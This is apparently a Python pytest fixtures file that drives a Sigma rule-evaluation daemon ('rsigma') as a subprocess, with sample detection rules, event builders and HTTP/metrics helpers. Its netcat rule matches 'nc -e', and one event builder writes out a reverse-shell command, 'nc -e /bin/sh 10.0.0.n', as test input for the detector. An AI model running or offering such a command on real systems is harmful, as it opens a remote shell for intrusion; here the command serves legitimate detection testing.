"""Fixtures for driving `rsigma engine daemon` as a real subprocess.

`daemon(*args, ...)` starts the command with `--api-addr 127.0.0.1:0` (and `--reload-poll 0` unless the
test sets it), waits for the `daemon started` log line, and returns a `DaemonProcess` with the API base
URL and helpers (HTTP, metrics, stdout, logs, signals). Every process is killed at teardown.

stdout and stderr go to files in tmp_path (no pipe to drain, nothing to deadlock); stdin is a pipe the
test writes to (`send`, `close_stdin`), a bytes payload written at once, or a regular file.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

ROOT = Path(__file__).resolve().parents[2]
STARTUP_TIMEOUT = 20.0
WAIT_TIMEOUT = 10.0

WHOAMI = """
title: Whoami
id: 11111111-1111-4111-8111-111111111111
level: high
logsource:
    product: test
detection:
    selection:
        CommandLine|contains: whoami
    condition: selection
"""

FAILED_LOGON = """
title: Failed logon
id: 22222222-2222-4222-8222-222222222222
name: failed_logon
level: low
logsource:
    product: test
detection:
    selection:
        EventID: 4625
    condition: selection
"""

BRUTE_FORCE = """
title: Brute force
id: 33333333-3333-4333-8333-333333333333
level: critical
correlation:
    type: event_count
    rules:
        - failed_logon
    group-by:
        - User
    timespan: 1h
    condition:
        gte: 3
"""

NETCAT = """
title: Netcat
id: 44444444-4444-4444-8444-444444444444
level: medium
logsource:
    product: test
detection:
    selection:
        CommandLine|contains: 'nc -e'
    condition: selection
"""


def rule_text(text: str) -> str:
    return textwrap.dedent(text).lstrip()


class Events:
    """Event builders shared by the tests (one JSON object per input line)."""

    @staticmethod
    def whoami(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": f"cmd /c whoami #{n}", "seq": n}

    @staticmethod
    def netcat(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": f"nc -e /bin/sh 10.0.0.{n}", "seq": n}

    @staticmethod
    def quiet(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": "notepad.exe", "seq": n}

    @staticmethod
    def failed(user: str, minute: int) -> dict[str, Any]:
        return {"EventID": 4625, "User": user, "@timestamp": f"2024-01-01T00:{minute:02d}:00Z"}

    @staticmethod
    def line(event: dict[str, Any]) -> bytes:
        return json.dumps(event).encode() + b"\n"

    @classmethod
    def ndjson(cls, *events: dict[str, Any]) -> bytes:
        return b"".join(cls.line(e) for e in events)


def wait_until(predicate: Callable[[], Any], what: str, timeout: float = WAIT_TIMEOUT) -> Any:
    """Poll `predicate` until it returns something truthy; fail with `what` at the deadline."""
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout:.1f}s waiting for {what}")
        time.sleep(0.02)


@dataclass
class Response:
    status: int
    headers: Any
    body: bytes

    def json(self) -> Any:
        return json.loads(self.body)


def http(method: str, url: str, body: bytes | None = None, timeout: float = 5.0) -> Response:
    request = urllib.request.Request(url, data=body, method=method)
    if body is not None:
        request.add_header("Content-Type", "application/x-ndjson")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as r:
            return Response(r.status, r.headers, r.read())
    except urllib.error.HTTPError as e:
        with e:
            return Response(e.code, e.headers, e.read())


def parse_metrics(text: str) -> dict[tuple[str, frozenset[tuple[str, str]]], float]:
    samples: dict[tuple[str, frozenset[tuple[str, str]]], float] = {}
    for family in text_string_to_metric_families(text):
        for s in family.samples:
            samples[(s.name, frozenset(s.labels.items()))] = s.value
    return samples


def read_lines(path: Path) -> list[str]:
    """Complete lines of a file written by the daemon (a partial last line is left for later)."""
    if not path.exists():
        return []
    text = path.read_text(encoding="utf-8", errors="replace")
    return text.splitlines() if text.endswith("\n") else text.splitlines()[:-1]


def read_json_lines(path: Path) -> list[Any]:
    return [json.loads(line) for line in read_lines(path) if line.strip()]


class DaemonProcess:
    def __init__(self, proc: subprocess.Popen[bytes], stdout_path: Path, stderr_path: Path) -> None:
        self.proc = proc
        self.stdout_path = stdout_path
        self.stderr_path = stderr_path
        self.api = ""
        self.base = ""

    # ---- process -------------------------------------------------------------------------

    @property
    def pid(self) -> int:
        return self.proc.pid

    def alive(self) -> bool:
        return self.proc.poll() is None

    def wait_started(self, timeout: float = STARTUP_TIMEOUT) -> DaemonProcess:
        def started() -> dict[str, Any] | None:
            record = self.find_log("daemon started")
            if record is None and not self.alive():
                raise AssertionError(
                    f"daemon exited with {self.proc.returncode} before starting:\n{self.stderr()}"
                )
            return record

        record = wait_until(started, "the 'daemon started' log line", timeout)
        self.api = record["api"]
        self.base = f"http://{self.api}"
        return self

    def wait_exit(self, timeout: float = WAIT_TIMEOUT) -> int:
        try:
            return self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            raise AssertionError(f"daemon still running after {timeout:.1f}s:\n{self.stderr()}") from None

    def signal(self, sig: signal.Signals) -> None:
        self.proc.send_signal(sig)

    def send(self, data: bytes) -> None:
        assert self.proc.stdin is not None, "this daemon's stdin is not a pipe"
        self.proc.stdin.write(data)
        self.proc.stdin.flush()

    def close_stdin(self) -> None:
        if self.proc.stdin is not None and not self.proc.stdin.closed:
            with contextlib.suppress(BrokenPipeError):
                self.proc.stdin.close()

    def kill(self) -> None:
        if self.alive():
            self.proc.kill()
        self.proc.wait(10)
        with contextlib.suppress(BrokenPipeError, OSError):
            self.close_stdin()
        if self.proc.stdout is not None:
            self.proc.stdout.close()

    # ---- output ---------------------------------------------------------------------------

    def stdout_lines(self) -> list[str]:
        return read_lines(self.stdout_path)

    def results(self) -> list[Any]:
        return read_json_lines(self.stdout_path)

    def stderr(self) -> str:
        return self.stderr_path.read_text(encoding="utf-8", errors="replace")

    def logs(self) -> list[dict[str, Any]]:
        records = []
        for line in self.stderr().splitlines():
            with contextlib.suppress(ValueError):
                record = json.loads(line)
                if isinstance(record, dict):
                    records.append(record)
        return records

    def find_log(self, message: str) -> dict[str, Any] | None:
        return next((r for r in self.logs() if r.get("message") == message), None)

    # ---- HTTP -----------------------------------------------------------------------------

    def get(self, path: str, timeout: float = 5.0) -> Response:
        return http("GET", self.base + path, timeout=timeout)

    def post(self, path: str, body: bytes = b"", timeout: float = 10.0) -> Response:
        return http("POST", self.base + path, body, timeout=timeout)

    def post_events(self, *events: dict[str, Any] | bytes) -> Response:
        body = b"".join(e if isinstance(e, bytes) else Events.line(e) for e in events)
        response = self.post("/api/v1/events", body)
        assert response.status == 200, (response.status, response.body)
        return response

    def metrics(self) -> dict[tuple[str, frozenset[tuple[str, str]]], float]:
        response = self.get("/metrics")
        assert response.status == 200, response.status
        return parse_metrics(response.body.decode())

    def metric(self, name: str, **labels: str) -> float | None:
        return self.metrics().get((name, frozenset(labels.items())))

    def wait_processed(self, count: int, timeout: float = WAIT_TIMEOUT) -> None:
        """`count` events evaluated and every result delivered (sinks write on their own threads)."""
        self.wait_metric("rsigma_events_processed_total", count, timeout)
        wait_until(
            lambda: self.get("/api/v1/status").json()["events_in_flight"] == 0, "deliveries done", timeout
        )

    def wait_metric(self, name: str, value: float, timeout: float = WAIT_TIMEOUT, **labels: str) -> None:
        wait_until(
            lambda: self.metric(name, **labels) == value,
            f"{name}{labels or ''} == {value} (last: {self.metric(name, **labels)})",
            timeout,
        )


Start = Callable[..., DaemonProcess]


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[Start]:
    """daemon(*args, stdin=None|bytes|Path, stdout="file"|"pipe", wait=True) -> DaemonProcess.

    stdin None keeps a pipe open for `send`; bytes are written and the pipe closed (EOF); a Path is
    opened as a regular file. wait=False returns before the 'daemon started' line (startup failures).
    """
    started: list[DaemonProcess] = []
    writers: list[threading.Thread] = []
    handles: list[Any] = []

    def start(
        *args: str | Path,
        stdin: bytes | Path | None = None,
        stdout: str = "file",
        wait: bool = True,
    ) -> DaemonProcess:
        argv = [str(a) for a in args]
        if "--api-addr" not in argv:
            argv += ["--api-addr", "127.0.0.1:0"]
        if "--reload-poll" not in argv:
            argv += ["--reload-poll", "0"]
        n = len(started)
        out_path, err_path = tmp_path / f"daemon{n}.stdout", tmp_path / f"daemon{n}.stderr"
        err = err_path.open("wb")
        handles.append(err)
        if stdout == "file":
            out: Any = out_path.open("wb")
            handles.append(out)
        else:
            out = subprocess.PIPE
        if isinstance(stdin, Path):
            stdin_arg: Any = stdin.open("rb")
            handles.append(stdin_arg)
        else:
            stdin_arg = subprocess.PIPE
        proc = subprocess.Popen(
            [sys.executable, "-m", "rsigma", "engine", "daemon", *argv],
            stdin=stdin_arg,
            stdout=out,
            stderr=err,
            cwd=tmp_path,
            env={**os.environ, "PYTHONUNBUFFERED": "1"},
        )
        d = DaemonProcess(proc, out_path, err_path)
        started.append(d)
        if isinstance(stdin, bytes):
            payload = stdin

            def feed() -> None:
                with contextlib.suppress(BrokenPipeError, OSError, ValueError):
                    assert proc.stdin is not None
                    proc.stdin.write(payload)
                    proc.stdin.close()

            writer = threading.Thread(target=feed, daemon=True)
            writer.start()
            writers.append(writer)
        if wait:
            d.wait_started()
        return d

    yield start
    for d in started:
        with contextlib.suppress(Exception):
            d.kill()
    for w in writers:
        w.join(5)
    for h in handles:
        h.close()


@pytest.fixture
def run_daemon(tmp_path: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Run the daemon to completion (startup failures, EOF runs) with a timeout."""

    def run(*args: str | Path, stdin: bytes = b"", timeout: float = 20.0) -> subprocess.CompletedProcess[str]:
        argv = [str(a) for a in args]
        if "--api-addr" not in argv:
            argv += ["--api-addr", "127.0.0.1:0"]
        if "--reload-poll" not in argv:
            argv += ["--reload-poll", "0"]
        result = subprocess.run(
            [sys.executable, "-m", "rsigma", "engine", "daemon", *argv],
            input=stdin,
            capture_output=True,
            cwd=tmp_path,
            timeout=timeout,
        )
        return subprocess.CompletedProcess(
            result.args, result.returncode, result.stdout.decode(), result.stderr.decode()
        )

    return run


@pytest.fixture
def ev() -> type[Events]:
    return Events


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    """A directory with the whoami rule, the failed-logon rule and the brute-force correlation."""
    d = tmp_path / "rules"
    d.mkdir()
    (d / "whoami.yml").write_text(rule_text(WHOAMI))
    (d / "failed_logon.yml").write_text(rule_text(FAILED_LOGON))
    (d / "brute_force.yml").write_text(rule_text(BRUTE_FORCE))
    return d


@pytest.fixture
def rules_file(tmp_path: Path) -> Path:
    """The same three documents in one multi-document file."""
    path = tmp_path / "rules.yml"
    path.write_text("---\n".join(rule_text(t) for t in (WHOAMI, FAILED_LOGON, BRUTE_FORCE)))
    return path


@pytest.fixture
def netcat_rule() -> str:
    return rule_text(NETCAT)


@pytest.fixture(name="wait_until")
def wait_until_fixture() -> Callable[..., Any]:
    """wait_until(predicate, what, timeout=10) -> the first truthy value of predicate()."""
    return wait_until


@pytest.fixture
def jsonl() -> Callable[[Path], list[Any]]:
    """jsonl(path) -> the complete JSON lines of a file the daemon writes (empty if it does not exist)."""
    return read_json_lines
